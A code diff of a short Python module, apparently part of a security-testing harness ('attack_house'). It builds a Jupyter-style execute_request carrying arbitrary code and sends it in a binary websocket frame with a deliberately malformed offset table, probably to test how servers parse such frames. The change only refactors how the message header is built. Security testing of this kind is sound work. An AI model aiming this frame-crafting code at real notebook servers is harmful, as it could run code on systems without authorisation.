@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import uuid
 
 from attack_house import Client, cell
 from support.servers import V1
@@ -13,9 +12,7 @@ MALFORMED = True
 
 
 def strike(client: Client, code: str) -> str:
-    msg_id = uuid.uuid4().hex
-    header = {"msg_id": msg_id, "msg_type": "execute_request", "username": "", "session": client.session,
-              "date": "2026-01-01T00:00:00Z", "version": "5.4"}  # fmt: skip
+    header = client.execute_header()
     parts = [b"shell", *(json.dumps(part).encode() for part in (header, {}, {}, cell(code)))]
     count = len(parts) + 3
     offsets = [8 * (1 + count)]
@@ -24,4 +21,4 @@ def strike(client: Client, code: str) -> str:
     offsets += [offsets[0], offsets[-1]]  # back to the first part, and once more over all of them
     table = b"".join(offset.to_bytes(8, "little") for offset in (count, *offsets))
     client.socket.send_binary(table + b"".join(parts))
-    return msg_id
+    return str(header["msg_id"])
